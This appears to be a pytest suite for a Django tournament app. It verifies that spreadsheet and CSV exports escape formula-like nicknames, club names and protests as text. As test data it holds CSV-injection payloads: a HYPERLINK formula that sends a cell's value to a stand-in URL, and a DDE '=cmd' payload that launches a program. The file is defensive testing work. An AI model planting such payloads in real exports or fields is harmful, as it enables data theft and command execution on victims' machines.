"""Files that stay data: a nickname, a club or a protest that reads like a formula is written to
every spreadsheet and CSV as text with a leading `'`, never as a live formula (OWASP's advice on
CSV injection); numbers stay numbers. Each file is opened again as a spreadsheet program would."""
import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from exports.exporters import ProtocolExporter
from protocols.action_types import PROTEST_FILED
from protocols.models import Game, Protest
from protocols.protests import file_protest
from scoring.recompute import recompute
from tests.tournament_builders import played
from tournaments.action_log import log_action
from tournaments.file_cells import cell_value
from tournaments.models import Club, Player

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?x="&A1,"Сова")'
HOSTILE = [HYPERLINK, "+7 (999) 000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile():
    """A played tournament whose players, a club and protests carry text that reads as a formula."""
    tournament = played("hostile", players=20, rounds=2)
    players = list(Player.objects.filter(registrations__tournament=tournament).order_by("pk"))
    for player, text in zip(players, HOSTILE):
        Player.objects.filter(pk=player.pk).update(nickname=text)
    club = Club.objects.create(name="=1+2")
    Player.objects.filter(pk=players[-1].pk).update(club=club)
    game = Game.objects.filter(tournament=tournament).order_by("number").first()
    chief = tournament.chief_judge.user
    for k, text in enumerate(HOSTILE):
        protest = file_protest(game=game, user=chief, player_id=game.seats.get(number=k + 1).player_id, point="other", text="x")
        Protest.objects.filter(pk=protest.pk).update(text=text)  # the service strips a leading tab or CR
        log_action(tournament=tournament, user=chief, action=PROTEST_FILED, obj=protest, reason=text)
    recompute(tournament.pk)
    return tournament


def texts_of(content: bytes) -> list[str]:
    """Every text cell of every sheet; fails on a formula cell."""
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found.append(cell.value)
    return found


def assert_kept_as_text(found: list[str], expected, *, xml: bool = True) -> None:
    for text in expected:
        if xml:  # XML reads a stored carriage return as a line feed
            text = text.replace("\r", "\n")
        assert "'" + text in found, f"{text!r} is not in the file as text after a '"
        assert text not in found


def test_the_escaping_prefixes_formula_starts_and_leaves_numbers_alone():
    for text in HOSTILE:
        assert cell_value(text) == "'" + text
    assert cell_value("Сова") == "Сова" and cell_value("a=1") == "a=1" and cell_value("") == ""
    assert cell_value(-2) == -2 and cell_value(Decimal("-0.40")) == Decimal("-0.40") and cell_value(None) is None


def test_the_public_standings_xlsx_holds_no_formula(hostile, client):
    response = client.get("/t/hostile/standings.xlsx")
    assert response.status_code == 200
    assert_kept_as_text(texts_of(response.content), [*HOSTILE, "=1+2"])


def test_the_public_seating_xlsx_holds_no_formula(hostile, client):
    response = client.get("/t/hostile/seating.xlsx")
    assert response.status_code == 200
    assert_kept_as_text(texts_of(response.content), HOSTILE)


def test_the_protocol_xlsx_holds_no_formula_and_its_amounts_are_numbers(hostile):
    seat = hostile.games.order_by("number").first().seats.get(number=2)
    type(seat).objects.filter(pk=seat.pk).update(extra=Decimal("0.50"), extra_reason="=cmd|' /C calc'!A0")
    book_content = ProtocolExporter(hostile).render("xlsx").content
    found = texts_of(book_content)
    assert_kept_as_text(found, [*HOSTILE, "=cmd|' /C calc'!A0"])
    sheet = load_workbook(io.BytesIO(book_content)).worksheets[1]
    amounts = [row[3] for row in sheet.iter_rows(values_only=True) if len(row) > 4 and row[4] == "'=cmd|' /C calc'!A0"]
    assert amounts == [0.5]  # "+0.50" is a number, not text that would need a '


def test_the_desk_action_log_csv_holds_no_formula(hostile, client):
    client.force_login(hostile.chief_judge.user)
    response = client.get(reverse("desk:log", args=[hostile.slug]) + "?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert_kept_as_text(cells, HOSTILE, xml=False)
